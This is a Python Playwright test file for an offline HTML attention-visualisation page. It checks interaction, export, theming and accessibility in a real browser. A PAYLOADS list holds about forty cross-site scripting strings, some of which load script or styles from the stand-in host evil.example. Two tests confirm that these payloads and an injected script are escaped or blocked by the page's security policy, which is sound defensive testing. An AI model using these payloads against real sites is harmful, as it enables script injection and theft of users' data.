"""The views in a real browser: loaded from a file offline, used with pointer and keyboard, and attacked."""

import json
import os
import re
import xml.etree.ElementTree as ElementTree
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from playwright.sync_api import Browser, Dialog, Download, Page, expect, sync_playwright

from cloze.inspect.views.data import View, build_view, trace_forward, view_from_weights
from cloze.inspect.views.page import show, write_page
from cloze.predict import Attention, Model, load
from tests.model.made import model_folder, saved

CHROMIUM = Path("/usr/bin/chromium")
ROW, TOP = 26, 40  # height of a row of the two columns, and of the header above them
TEXT, PAIR = "the cat sat on [MASK] mat.", "a dog ran on the mat."
# Payloads that try to run a script from a text through tags, attributes, addresses, script ends, and characters that
# change how the remaining page is parsed.
PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</ScRiPt ><script src=//evil.example/x.js></script>",
    "<!--<script>alert(1)//-->",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src=//evil.example/p.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=//evil.example/x>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "`${alert(1)}`",
    "';alert(1)//",
    '";alert(1)//',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028alert(1)\u2029",
    "\u202e<script>alert(1)</script>",
    "{{scripts}}",
]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    if not CHROMIUM.exists():
        reason = f"there is no browser at {CHROMIUM}; 'apt install chromium' gets one"
        if os.environ.get("CI"):
            pytest.fail(reason)
        pytest.skip(reason)
    with sync_playwright() as playwright:
        found = playwright.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
        yield found
        found.close()


class Visit:
    """A page that records violations: dialogs, network requests, policy violations and errors."""

    def __init__(self, browser: Browser, **options: Any) -> None:
        self.context = browser.new_context(**{"viewport": {"width": 1280, "height": 900}, **options})
        self.page = self.context.new_page()
        self.page.set_default_timeout(10_000)
        self.complaints: list[str] = []
        self.page.on("dialog", self._hear)
        self.page.on("pageerror", lambda error: self.complaints.append(f"error {error}"))
        # Policy violations also appear on the console.
        self.page.on("console", lambda message: self.complaints.append(f"console {message.text}"))
        self.page.on("request", lambda request: self._count(request.url))

    def _hear(self, dialog: Dialog) -> None:
        self.complaints.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _count(self, url: str) -> None:
        if not url.startswith(("file://", "blob:", "http://127.0.0.1:")):
            self.complaints.append(f"request {url}")

    def open(self, path: Path, hash_: str = "") -> Page:
        self.page.goto("about:blank")
        self.complaints.clear()
        self.page.goto(path.as_uri() + hash_)
        self.page.locator("#stage[data-layer]").wait_for()
        return self.page

    def __enter__(self) -> "Visit":
        return self

    def __exit__(self, *_: object) -> None:
        self.context.close()


@pytest.fixture(scope="module")
def model(tmp_path_factory: pytest.TempPathFactory) -> Model:
    return load(saved(model_folder(["mlm", "nsp"]), tmp_path_factory.mktemp("viewed") / "model"))


@pytest.fixture(scope="module")
def view(model: Model) -> View:
    return build_view(trace_forward(model, TEXT, PAIR), name="made")


@pytest.fixture(scope="module")
def path(view: View, tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = tmp_path_factory.mktemp("page") / "page.html"
    write_page(view, place)
    return place


@pytest.fixture(scope="module")
def attention(model: Model, view: View) -> Attention:
    return trace_forward(model, TEXT, PAIR).attention


@pytest.fixture
def visit(browser: Browser) -> Iterator[Visit]:
    with Visit(browser, offline=True, accept_downloads=True) as found:
        yield found
        assert found.complaints == []


def point(page: Page, index: int, side: str = "from") -> None:
    """Move the pointer over a word in one of the two columns."""
    box = page.locator("#stage").bounding_box()
    assert box is not None
    x = box["x"] + box["width"] / 2 + (-250 if side == "from" else 250)
    page.mouse.move(x, box["y"] + TOP + (index + 0.5) * ROW)


def table(page: Page) -> list[list[str]]:
    """Return the rows of the table next to the figure."""
    rows: list[list[str]] = page.locator("#table tbody tr").evaluate_all(
        "rows => rows.map(row => [...row.cells].map(cell => cell.textContent))"
    )
    return rows


def drawn(page: Page) -> int:
    """Return the number of drawn pixels in the figure."""
    count: int = page.locator("#canvas").evaluate(
        """canvas => {
          const copy = Object.assign(document.createElement("canvas"), { width: canvas.width, height: canvas.height });
          const context = copy.getContext("2d", { willReadFrequently: true });
          context.drawImage(canvas, 0, 0);
          const { data } = context.getImageData(0, 0, copy.width, copy.height);
          let count = 0;
          for (let place = 0; place < data.length; place += 4) count += data[place + 3] > 40 ? 1 : 0;
          return count;
        }"""
    )
    return count


def settled(page: Page) -> None:
    """Wait until the figure is drawn."""
    page.evaluate("() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")


def address_of(page: Page) -> str:
    """Return the address from the page itself, since page.url may lag by one click."""
    return str(page.evaluate("() => location.href"))


def state_of(page: Page) -> dict[str, str]:
    return dict(part.split("=") for part in address_of(page).partition("#")[2].split("&"))


def test_words_show_the_attention_of_the_one_under_the_pointer(visit: Visit, path: Path, attention: Attention) -> None:
    page = visit.open(path, "#view=columns&layer=1&heads=0.1")
    everything = drawn(page)
    point(page, 2)
    expect(page.locator("#table caption")).to_contain_text("“cat” attends to (layer 1, all heads, mean)")
    settled(page)
    assert 0 < drawn(page) != everything
    expected = attention.weights[1, :, 2].mean(0)
    for word, place, weight in table(page):
        assert word == attention.tokens[int(place)]
        assert float(re.sub("[^0-9.]", "", weight)) == pytest.approx(100 * expected[int(place)], abs=1)
    assert int(table(page)[0][1]) == int(expected.argmax())
    point(page, 3, "to")
    expect(page.locator("#table caption")).to_contain_text("attend to “sat”")
    assert int(table(page)[0][1]) == int(attention.weights[1, :, :, 3].mean(0).argmax())
    page.mouse.move(5, 5)
    settled(page)
    assert "word" not in state_of(page)


def test_layers_heads_and_blocks_are_chosen(visit: Visit, path: Path, attention: Attention) -> None:
    page = visit.open(path, "#view=columns")
    page.get_by_label("Next layer").click()
    expect(page.locator("#stage[data-layer='1']")).to_be_visible()
    page.locator("#layer").select_option("2")
    page.get_by_label("Head 1", exact=True).click()
    assert state_of(page)["layer"] == "2"
    assert state_of(page)["heads"] == "0"
    page.get_by_label("Head 0", exact=True).click()  # at least one head stays selected
    assert state_of(page)["heads"] == "0"
    page.get_by_role("button", name="B→A").click()
    first = attention.segments.index(1)
    page.locator("#word").select_option(str(first + 1))
    expect(page.locator("#table caption")).to_contain_text(f"“{attention.tokens[first + 1]}” attends to")
    assert {int(row[1]) for row in table(page)} <= set(range(first))
    best = attention.weights[2, 0, first + 1, :first].argmax()
    assert int(table(page)[0][1]) == best
    page.get_by_role("button", name="all", exact=True).nth(1).click()
    assert state_of(page)["heads"] == "0.1"


def test_matrix(visit: Visit, path: Path, attention: Attention) -> None:
    page = visit.open(path, "#view=matrix&layer=0&heads=1")
    box = page.locator("#stage").bounding_box()
    assert box is not None
    found = {}
    for across in range(20, int(box["width"]) - 20, 37):
        page.mouse.move(box["x"] + across, box["y"] + box["height"] * 0.6)
        settled(page)
        shown_text = re.fullmatch(r"(\S+) → (\S+): (.*) %", page.locator("#caption").inner_text())
        if shown_text:
            found[shown_text[1], shown_text[2]] = float(shown_text[3].replace("<", ""))
    assert len(found) >= 5
    origin = next(iter(found))[0]
    rows = [row for row, token in enumerate(attention.tokens) if token == origin]
    for (_, target), weight in found.items():
        columns = [column for column, token in enumerate(attention.tokens) if token == target]
        truth = [100 * attention.weights[0, 1, row, column] for row in rows for column in columns]
        assert min(abs(weight - one) for one in truth) < 1
    assert drawn(page) > 1000


def test_heads_open_with_a_click_or_a_key(visit: Visit, path: Path) -> None:
    page = visit.open(path, "#view=heads")
    assert drawn(page) > 1000
    expect(page.locator("#legend .swatch").first).to_be_visible()
    opened = set()
    for row in (0.2, 0.5, 0.8):
        page.locator("#tab-heads").click()
        settled(page)
        box = page.locator("#stage").bounding_box()  # measured again, because each view has its own height
        assert box is not None
        page.mouse.click(box["x"] + box["width"] / 2 - 10, box["y"] + box["height"] * row)
        opened.add((state_of(page)["view"], state_of(page)["layer"], state_of(page)["heads"]))
    assert len(opened) == 3
    assert {view for view, _, _ in opened} == {"columns"}
    page.locator("#tab-heads").click()
    page.locator("#stage").focus()
    page.keyboard.press("Home")
    page.mouse.move(5, 5)
    expect(page.locator("#table tbody tr")).to_have_count(6)
    page.locator("#table button").nth(3).click()
    assert (state_of(page)["layer"], state_of(page)["heads"], state_of(page)["view"]) == ("1", "1", "columns")


def test_neighbours_and_blanks(visit: Visit, path: Path, view: View) -> None:
    page = visit.open(path, "#view=neighbours&word=2")
    places, tokens = view.facts["neighbours"]["places"], view.facts["tokens"]
    for row, layer in zip(table(page), places, strict=True):
        assert row[1].startswith(f"{tokens[layer[2][0]]} ")
    settled(page)
    assert drawn(page) > 1000
    page.locator("#tab-fills").click()
    blank = tokens.index("[MASK]")
    page.locator("#word").select_option(str(blank))
    expect(page.locator("#table caption")).to_have_text("Predictions of each layer at “[MASK]”")
    for row, layer in zip(table(page), view.facts["fills"]["words"], strict=True):
        assert row[1].startswith(f"{layer[blank][0][0]} ")
    expect(page.locator("#help")).to_contain_text("trained only on the last layer")


def test_keyboard_alone(visit: Visit, path: Path, attention: Attention) -> None:
    page = visit.open(path, "#view=columns")
    page.locator("#tab-columns").focus()
    page.keyboard.press("ArrowRight")
    expect(page.locator("#tab-matrix")).to_have_attribute("aria-selected", "true")
    page.keyboard.press("ArrowLeft")
    page.locator("#stage").focus()
    page.keyboard.press("Escape")
    for _ in range(2):
        page.keyboard.press("ArrowDown")
    held = int(state_of(page)["word"])
    expect(page.locator("#table caption")).to_contain_text(f"“{attention.tokens[held]}” attends to")
    page.keyboard.press("ArrowRight")
    assert state_of(page)["word"] == f"{held}t"
    page.keyboard.press("]")
    assert state_of(page)["layer"] == "1"
    page.keyboard.press("Escape")
    assert "word" not in state_of(page)
    page.locator("#tab-heads").click()
    page.locator("#stage").focus()
    page.keyboard.press("ArrowRight")
    page.keyboard.press("ArrowDown")
    expect(page.locator("#caption")).to_contain_text("Layer 1, head 1:")
    page.keyboard.press("Enter")
    assert (state_of(page)["view"], state_of(page)["layer"], state_of(page)["heads"]) == ("columns", "1", "1")


def test_input_before_the_first_frame_works(visit: Visit, path: Path) -> None:
    page = visit.open(path)
    page.evaluate("() => { window.requestAnimationFrame = () => 0; }")
    page.evaluate("() => { document.querySelector('#tab-heads').click(); document.querySelector('#stage').focus(); }")
    page.keyboard.press("ArrowRight")
    page.evaluate("() => document.querySelector('#stage').dispatchEvent(new PointerEvent('pointermove', {clientX: 5}))")
    page.keyboard.press("ArrowDown")
    assert "Layer 1, head 1:" in page.evaluate("() => document.querySelector('#caption').textContent")


def test_every_control_has_a_name(visit: Visit, path: Path) -> None:
    page = visit.open(path)
    for view in ("columns", "matrix", "heads", "neighbours", "fills"):
        page.locator(f"#tab-{view}").click()
        nameless = page.locator("button:visible, select:visible, [role]:visible").evaluate_all(
            """nodes => nodes
              .filter(node => node.id !== "caption" && !node.textContent.trim() && !node.labels?.length)
              .filter(node => !node.getAttribute("aria-label") && !node.getAttribute("aria-labelledby"))
              .map(node => node.outerHTML)"""
        )
        assert nameless == []
        assert page.locator("#stage").get_attribute("aria-label")
        assert page.locator("#table caption").inner_text()


def test_links_restore_the_view(visit: Visit, path: Path) -> None:
    page = visit.open(path, "#view=columns")
    page.get_by_label("Head 0", exact=True).click()
    page.locator("#layer").select_option("2")
    page.get_by_role("button", name="A→B").click()
    page.locator("#word").select_option("2")
    page.locator("#copy-link").click()
    expect(page.locator("#caption")).to_contain_text("link")
    link, shown_text = address_of(page), table(page)
    settled(page)
    picture = page.locator("#canvas").evaluate("canvas => canvas.toDataURL()")
    again = visit.open(path, "#" + link.partition("#")[2])
    expect(again.locator("#word")).to_have_value("2")
    settled(again)
    assert table(again) == shown_text
    assert again.locator("#canvas").evaluate("canvas => canvas.toDataURL()") == picture
    odd = visit.open(path, "#view=nowhere&layer=99&heads=7.x&word=9999&block=CC")
    assert state_of(odd) == {"view": "nowhere", "layer": "0", "heads": "0.1"}


def saved_as(page: Page, button: str) -> Download:
    with page.expect_download() as waited:
        page.locator(button).click()
    return waited.value


@pytest.mark.parametrize("name", ["columns", "matrix", "heads", "neighbours", "fills"])
def test_pictures_are_saved(name: str, visit: Visit, path: Path, attention: Attention) -> None:
    page = visit.open(path, f"#view={name}&layer=1&heads=1&word=2")
    png = saved_as(page, "#save-png")
    assert png.suggested_filename.endswith(".png")
    assert png.path().read_bytes().startswith(b"\x89PNG\r\n\x1a\n")
    svg = saved_as(page, "#save-svg").path().read_text("utf-8")
    root = ElementTree.fromstring(svg)
    words = [node.text for node in root.iter("{http://www.w3.org/2000/svg}text")]
    assert any("made" in str(word) for word in words)
    if name in ("columns", "matrix"):
        assert sorted(word for word in words if word in attention.tokens) == sorted(2 * attention.tokens)
    assert not re.search(r"(?:src|href)=\"(?!data:image/png;base64,)", svg)


def test_texts_do_nothing(browser: Browser, tmp_path: Path) -> None:
    weights = np.random.default_rng(0).dirichlet(np.ones(len(PAYLOADS)), (2, 2, len(PAYLOADS))).astype(np.float32)
    view = view_from_weights(Attention(PAYLOADS, [0] * 20 + [1] * (len(PAYLOADS) - 20), weights))
    words = [[[payload, 0.5]] for payload in PAYLOADS]
    places = [[list(range(1, 9))] * len(PAYLOADS)] * 3
    facts = {
        "model": PAYLOADS[5],
        "texts": [" ".join(PAYLOADS), PAYLOADS[1]],
        "fills": {"places": list(range(len(PAYLOADS))), "words": [words] * 3},
        "neighbours": {"places": places, "cosines": [[[0.5] * 8] * len(PAYLOADS)] * 3},
        "pieces": {payload: [[payload, 0.5]] for payload in PAYLOADS},
    }
    view.facts.update(facts)
    view.facts["notes"]["source"] = PAYLOADS[0]
    view.facts["notes"]["heads"][0][0][0] = PAYLOADS[5]
    view.facts["notes"]["descriptions"] = {PAYLOADS[5]: PAYLOADS[0]}
    write_page(view, tmp_path / "attacked.html")
    with Visit(browser, offline=True) as visit:
        page = visit.open(tmp_path / "attacked.html", "#view=columns&word=<img src=x onerror=alert(1)>")
        elements = page.locator("*").count()
        for name in ("columns", "matrix", "heads", "neighbours", "fills"):
            page.locator(f"#tab-{name}").click()
            settled(page)
            page.mouse.move(400, 600)
            page.mouse.move(700, 640)
            if name != "heads":
                page.locator("#word").select_option("6")
        for button in ("#save-png", "#save-svg"):
            found = saved_as(page, button).path().read_bytes()
        ElementTree.fromstring(found)  # only cloze's own markup
        assert "<img" not in re.sub(r"<image [^>]*>", "", found.decode())
        assert page.locator("#word option").nth(6).text_content() == f"5  {PAYLOADS[5]}"
        assert page.locator("script").count() == 4
        assert page.locator("img, iframe, object, embed, base, video, form:not(#ask), a").count() == 0
        assert elements > 50
        assert visit.complaints == []


def test_policy_stops_foreign_scripts(browser: Browser, path: Path, tmp_path: Path) -> None:
    """The policy stops foreign scripts, and the test page reports them."""
    spoilt = tmp_path / "spoilt.html"
    attack = "<script>alert(1)</script><img src='http://127.0.0.1:9/x'><p style='color:red'>x</p>"
    spoilt.write_text(path.read_text("utf-8").replace("<footer>", f"{attack}<footer>"), encoding="utf-8")
    with Visit(browser) as visit:
        visit.open(spoilt)
        refused = [line for line in visit.complaints if "Content Security Policy" in line]
        assert len(refused) == 3
        assert not any(line.startswith("dialog") for line in visit.complaints)


def paper(page: Page) -> str:
    colour: str = page.locator("body").evaluate("node => getComputedStyle(node).backgroundColor")
    return colour


def test_light_dark_narrow_and_print(browser: Browser, path: Path) -> None:
    papers = {}
    for scheme in ("light", "dark"):
        with Visit(browser, color_scheme=scheme, viewport={"width": 380, "height": 800}) as visit:
            page = visit.open(path)
            papers[scheme] = paper(page)
            assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
            for expected in ("light", "dark"):
                page.locator("#theme").click()
                expect(page.locator(f"html[data-theme={expected}]")).to_be_visible()
            page.evaluate("dispatchEvent(new Event('beforeprint'))")
            page.emulate_media(media="print")
            assert not page.locator("#controls").is_visible()
            assert paper(page) == "rgb(255, 255, 255)"
            assert len(page.pdf()) > 10_000
            assert visit.complaints == []
    assert papers["light"] != papers["dark"]


def test_notebook_frame(browser: Browser, model: Model, tmp_path: Path) -> None:
    display = show(model.attend("the cat sat.", "a dog ran."))
    html = display._repr_html_()
    (tmp_path / "notebook.html").write_text(f"<!doctype html><body>{html}</body>", encoding="utf-8")
    with Visit(browser, offline=True) as visit:
        visit.page.goto((tmp_path / "notebook.html").as_uri())
        frame = visit.page.frame_locator("iframe")
        frame.locator("#stage[data-layer]").wait_for()
        frame.locator("#tab-heads").click()
        expect(frame.locator("#table tbody tr")).to_have_count(6)
        frame.locator("#tab-columns").click()
        frame.get_by_label("Next layer").click()
        expect(frame.locator("#table caption")).to_contain_text("layer 1")
        assert visit.complaints == []


def test_truncated_file_shows_an_error(visit: Visit, path: Path, tmp_path: Path) -> None:
    text = path.read_text("utf-8")
    short = tmp_path / "short.html"
    short.write_text(text[: text.index('<script type="text/plain" id="layer-2">')], encoding="utf-8")
    page = visit.open(short)
    page.locator("#layer").select_option("2")
    expect(page.locator("#caption")).to_have_text("layer 2 is missing; the file was cut short")
    assert json.loads(page.locator("#facts").text_content() or "")["layers"] == 3
